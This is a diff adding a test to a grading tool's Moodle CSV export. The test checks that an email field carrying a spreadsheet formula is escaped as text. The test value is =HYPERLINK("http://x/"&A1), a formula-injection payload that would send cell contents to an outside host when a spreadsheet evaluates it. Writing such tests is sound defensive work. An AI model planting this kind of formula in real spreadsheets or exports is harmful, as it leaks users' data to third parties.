@@ -271,3 +271,19 @@ def test_a_file_name_with_digits_is_not_ambiguous(tmp_path):
     (sub,) = collect(tmp_path, AID, tmp_path / "scratch")
     assert sub.student_id == "1001" and sub.path.endswith("_9001_00_perceptron_v2.ipynb")
     assert not sub.flags or AMBIGUOUS not in sub.flags
+
+
+def test_a_moodle_email_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    grades = tmp_path / "grades"
+    grades.mkdir()
+    (grades / "totals.csv").write_text(
+        "student_id,assignment,score,max_score,status,flags,seconds\n2001,00_x,1,2,ok,,0.1\n"
+    )
+    template = tmp_path / "worksheet.csv"
+    email = '=HYPERLINK("http://x/"&A1)@example.org'  # a valid address for Moodle's check
+    quoted = '"' + email.replace('"', '""') + '"'
+    template.write_text(MOODLE_WORKSHEET.replace("yuna@example.org", quoted), encoding="utf-8")
+    out = tmp_path / "out.csv"
+    args = ["--grades", str(grades), "--out", str(out), "--template", str(template)]
+    assert main(["export", "--format", "moodle", *args]) == 0
+    assert read_csv(out)[1][2] == "'" + email
